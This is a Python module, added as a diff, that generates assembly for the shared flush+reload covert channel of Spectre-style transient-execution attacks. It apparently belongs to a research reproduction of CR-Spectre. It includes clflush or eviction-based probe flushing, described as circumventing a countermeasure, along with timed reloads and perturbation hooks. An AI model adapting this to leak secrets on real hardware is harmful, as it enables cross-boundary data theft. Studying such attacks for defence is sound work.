@@ -1,0 +1,169 @@
+"""Flush+reload covert channel: the shared skeleton of every variant.
+
+The channel is Kocher et al.'s: a 256-entry probe array with one cache
+line per candidate byte value.  Per secret byte the attack
+
+1. (variant-specific) trains whatever predictor it abuses,
+2. flushes every probe line with ``clflush``,
+3. (variant-specific) triggers one transient execution that loads
+   ``probe[secret_byte * stride]`` on the wrong path,
+4. reloads all 256 lines with ``rdcycle`` timing and records the
+   fastest — the line the squashed load left behind.
+
+All emitters share a label *prefix* so several attack images can link
+the same building blocks without collisions.
+"""
+
+from repro.attack.perturb import perturb_source
+
+
+#: Eviction buffer: twice the (default) L2 so one streaming pass
+#: displaces every cached probe line without any clflush.
+EVICT_BUFFER_BYTES = 512 * 1024
+
+
+def emit_data(config, prefix):
+    """Probe array + leak output buffer (+ eviction buffer if needed)."""
+    evict_data = ""
+    if config.flush_method == "evict":
+        evict_data = f"""
+    .align 6
+{prefix}_evict_buf:
+    .space {EVICT_BUFFER_BYTES}
+"""
+    return f"""
+.data
+    .align 6                  ; the probe must own its cache lines:
+{prefix}_probe:               ; sharing line 0 with victim data would
+    .space {config.probe_bytes}   ; make candidate 0 always hot
+{prefix}_leaked:
+    .space {config.secret_length + 4}
+{evict_data}
+"""
+
+
+def emit_flush_probe(config, prefix):
+    """Clear the probe array (step 2), by clflush or by eviction."""
+    if config.flush_method == "evict":
+        return f"""
+    ; ---- evict the probe array: stream a 2x-L2-sized buffer ----
+    ; (no clflush: circumvents the privileged-clflush countermeasure)
+    la   t1, {prefix}_evict_buf
+    li   t2, {EVICT_BUFFER_BYTES // 64}
+{prefix}_flush:
+    beq  t2, zero, {prefix}_flush_done
+    lw   t3, 0(t1)
+    addi t1, t1, 64
+    addi t2, t2, -1
+    jmp  {prefix}_flush
+{prefix}_flush_done:
+    mfence
+"""
+    return f"""
+    ; ---- flush the probe array ----
+    la   t1, {prefix}_probe
+    li   t2, {config.probe_entries}
+{prefix}_flush:
+    beq  t2, zero, {prefix}_flush_done
+    clflush 0(t1)
+    addi t1, t1, {config.stride}
+    addi t2, t2, -1
+    jmp  {prefix}_flush
+{prefix}_flush_done:
+    mfence
+"""
+
+
+def emit_reload_and_record(config, prefix):
+    """Timed reload scan; records argmin-latency candidate (step 4)."""
+    return f"""
+    ; ---- reload: time every candidate line, keep the fastest ----
+    li   t3, 0                ; candidate byte value
+    li   a2, 1000000          ; best latency so far
+    li   a3, 0                ; best candidate
+{prefix}_reload:
+    slti t0, t3, {config.probe_entries}
+    beq  t0, zero, {prefix}_record
+    la   t1, {prefix}_probe
+    muli t2, t3, {config.stride}
+    add  t1, t1, t2
+    mfence
+    rdcycle gp
+    lw   t2, 0(t1)
+    rdcycle lr
+    sub  lr, lr, gp
+    bge  lr, a2, {prefix}_reload_next
+    mov  a2, lr
+    mov  a3, t3
+{prefix}_reload_next:
+    addi t3, t3, 1
+    jmp  {prefix}_reload
+{prefix}_record:
+    la   t1, {prefix}_leaked
+    add  t1, t1, s0
+    sb   a3, 0(t1)
+"""
+
+
+def emit_perturb_calls(config, prefix):
+    """Algorithm-2 invocation(s) per leaked byte (CR-Spectre only)."""
+    if config.perturb is None:
+        return ""
+    calls = "\n".join(
+        f"    call {prefix}_pt_perturb"
+        for _ in range(config.perturb.calls_per_byte)
+    )
+    return f"""
+    ; ---- dynamic perturbation (Algorithm 2) ----
+{calls}
+"""
+
+
+def emit_perturb_routine(config, prefix):
+    if config.perturb is None:
+        return ""
+    return perturb_source(config.perturb, prefix=f"{prefix}_pt")
+
+
+def emit_main_skeleton(config, prefix, train_block, strike_block,
+                       extra_text=""):
+    """The complete attack ``main``: repeats x secret-bytes x channel.
+
+    ``train_block``/``strike_block`` are the variant-specific pieces;
+    ``extra_text`` carries variant helper routines (victim functions,
+    leak gadgets).
+    """
+    return f"""
+.text
+main:
+    li   s1, {config.repeats}
+{prefix}_repeat:
+    beq  s1, zero, {prefix}_exit
+    li   s0, 0                ; secret byte index
+{prefix}_byte_loop:
+    slti t0, s0, {config.secret_length}
+    beq  t0, zero, {prefix}_report
+{train_block}
+{emit_flush_probe(config, prefix)}
+{strike_block}
+{emit_reload_and_record(config, prefix)}
+{emit_perturb_calls(config, prefix)}
+    addi s0, s0, 1
+    jmp  {prefix}_byte_loop
+
+{prefix}_report:
+    ; exfiltrate this pass's bytes: write(1, leaked, secret_length)
+    li   a0, 1
+    la   a1, {prefix}_leaked
+    li   a2, {config.secret_length}
+    call libc_write
+    addi s1, s1, -1
+    jmp  {prefix}_repeat
+
+{prefix}_exit:
+    li   a0, 0
+    call libc_exit
+{extra_text}
+{emit_data(config, prefix)}
+{emit_perturb_routine(config, prefix)}
+"""
